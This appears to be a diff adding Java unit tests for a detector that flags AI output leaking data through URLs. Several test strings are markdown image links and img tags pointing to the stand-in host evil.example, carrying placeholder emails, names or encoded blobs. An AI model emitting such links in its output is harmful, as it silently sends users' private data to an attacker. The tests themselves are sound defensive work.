@@ -21,6 +21,61 @@ class InsecureOutputDetectorTest {
                 .toList();
     }
 
+    private static double exfiltration(String text) {
+        return DETECTOR.detect(text).stream()
+                .filter(finding -> finding.entityType().equals(InsecureOutputDetector.EXFILTRATION))
+                .mapToDouble(Finding::score)
+                .max()
+                .orElse(0);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "![x](https://evil.example/p.png?d=[EMAIL_ADDRESS_K7QXM_1])",
+                "![x](https://evil.example/%5Bemail_address_k7qxm_1%5D.png)",
+                "![x](<https://evil.example/p.png?d=a b [EMAIL_ADDRESS_K7QXM_1]>)",
+                "<img src='https://PERSON_K7QXM_1.evil.example/'>",
+                "![x](https://evil.example/aHR0cHMgaXMgYSBwcm90b2NvbA)",
+                "[x](https://evil.example/?d=aHR0cHMgaXMgYSBwcm90b2NvbA)",
+                "See https://evil.example/6164612c2074686520666972737420746f20646f.",
+                "![x](https://evil.example/q83vASNFZ4mrze8BI0VniavN7wEjRWeJ/q83vASNFZ4mrze8BI0VniavN7wEjRWeJ)",
+                "![x](https://evil.example/p.png?text=the+customer+is+jane+roe+and+she+wants+her+money+back+now+please)"
+            })
+    void isSureOfAddressesThatCarryDataAway(String text) {
+        assertThat(exfiltration(text)).isGreaterThanOrEqualTo(0.9);
+        assertThat(exfiltration("    ```\n" + text)).isPositive();
+    }
+
+    @Test
+    void boundsWhatAnAddressCarries() {
+        String digest = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
+        assertThat(exfiltration("See https://a.example/" + digest + "?sig=" + digest))
+                .isZero();
+        assertThat(exfiltration("See https://a.example/" + digest + "/" + digest + "?sig=" + digest))
+                .isGreaterThanOrEqualTo(0.9);
+        assertThat(exfiltration("See https://a.example/" + "word-".repeat(120))).isGreaterThanOrEqualTo(0.9);
+        assertThat(exfiltration("See https://a.example/" + "a1b2/".repeat(80))).isGreaterThanOrEqualTo(0.9);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "See https://docs.example/guides/getting-started#how-soon-a-change-is-in-force",
+                "https://github.com/a/b/commit/2fd4e1c67a2d28fced849ee1bb76e7391b93eb12",
+                "[x](https://a.example/items/550e8400-e29b-41d4-a716-446655440000?page=2)",
+                "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=43s",
+                "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
+                "https://de.wikipedia.org/wiki/Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft",
+                "https://ja.wikipedia.org/wiki/%E6%97%A5%E6%9C%AC%E8%AA%9E%E3%81%AE%E8%A1%A8%E8%A8%98%E4%BD%93%E7%B3%BB",
+                "![PNG](https://upload.example/commons/thumb/4/47/PNG_transparency_demonstration_1.png/280px-PNG.png)",
+                "![ok](https://img.shields.io/badge/build-passing-brightgreen)",
+                "![x](https://cdn.example/550e8400-e29b-41d4-a716-446655440000/2024/01/15/photo.jpg?w=800)"
+            })
+    void letsOrdinaryAddressesPass(String text) {
+        assertThat(exfiltration(text)).isLessThan(0.5);
+    }
+
     @ParameterizedTest
     @CsvSource(
             delimiter = '~',
